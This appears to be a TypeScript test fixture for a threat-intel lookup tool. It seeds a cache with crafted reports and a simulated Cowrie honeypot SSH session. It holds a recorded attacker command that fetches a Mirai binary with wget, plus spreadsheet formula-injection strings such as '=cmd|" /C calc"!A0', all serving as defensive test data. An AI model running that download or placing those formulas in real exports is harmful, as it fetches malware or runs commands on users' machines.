/** Test data for search and exports: real lookups against the simulator, crafted cache entries, a Cowrie session. */
import { Store } from '../../store/index.js';
import { recordCowrieSession } from '../../correlation/cowrie.js';
import type { CowrieSession } from '../../cowrie/sessions.js';
import type { Gateway } from '../../gateway/index.js';
import { makeReport } from '../../store/test-support/reports.js';

export const EICAR_SHA256 = '275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f';
export const EICAR_MD5 = '44d88612fea8a8f36de82e1278abb02f';
export const NASTY_SHA256 = 'd'.repeat(64);
export const NASTY_NAMES = ['=HYPERLINK("http://x","click")', 'a,b "quoted"\r\nnext line', '+cmd|calc', '@SUM(1)', '-2+3', '\tTAB'];
export const COWRIE_IP = '203.0.113.77';
export const COWRIE_URL = 'http://198.51.100.9/bins/mirai.x86';
export const COWRIE_FILE = 'e'.repeat(64);

export const LOOKUPS = [EICAR_MD5, 'example.com', '8.8.8.8', 'http://malware.example/dropper.sh', 'google.com', '2606:4700:4700::1111'];

export function cowrieSession(): CowrieSession {
  return {
    session: 'a1b2c3d4',
    srcIp: COWRIE_IP,
    srcPort: 40000,
    dstIp: '10.0.0.2',
    dstPort: 22,
    protocol: 'ssh',
    sensor: 'honeypot-1',
    startAt: Date.UTC(2026, 0, 10, 8, 0, 0),
    endAt: Date.UTC(2026, 0, 10, 8, 1, 0),
    durationMs: 60_000,
    clientVersion: 'SSH-2.0-Go',
    logins: [],
    commands: [`wget ${COWRIE_URL}`],
    downloads: [{ url: COWRIE_URL, sha256: COWRIE_FILE, outfile: 'var/lib/cowrie/downloads/x', at: Date.UTC(2026, 0, 10, 8, 0, 30) }],
    uploads: [],
    events: 5,
    closed: true,
  } as CowrieSession;
}

/** Looks up LOOKUPS through the real path (simulator), adds crafted entries and a Cowrie session. */
export async function populate(gateway: Gateway): Promise<void> {
  for (const input of LOOKUPS) await gateway.lookup(input);
  const now = gateway.clock.now();
  // Crafted entries go straight into the gateway's own SQLite file, as a second process would write them.
  const store = await Store.open({ dataDir: gateway.config.dataDir, clock: gateway.clock });
  try {
  await store.cache.put(
    makeReport({ id: NASTY_SHA256, indicator: NASTY_SHA256, verdict: 'suspicious', detections: 2, engines: 70, threatLabel: '=cmd|" /C calc"!A0', fetchedAt: now, data: { attributes: { sha256: NASTY_SHA256, names: NASTY_NAMES, tags: ['peexe'] } } }),
    now + 3_600_000,
  );
  await store.cache.put(makeReport({ id: COWRIE_FILE, indicator: COWRIE_FILE, verdict: 'malicious', detections: 40, engines: 70, threatLabel: 'trojan.mirai/gafgyt', fetchedAt: now, data: { attributes: { sha256: COWRIE_FILE, names: ['mirai.x86'] } } }), now + 3_600_000);
  await store.cache.put(makeReport({ kind: 'ip', id: COWRIE_IP, indicator: COWRIE_IP, verdict: 'harmless', detections: 0, engines: 90, threatLabel: null, fetchedAt: now, data: {} }), now + 3_600_000);
  await recordCowrieSession(store.search, cowrieSession(), 'run-1');
  } finally {
    await store.close();
  }
}
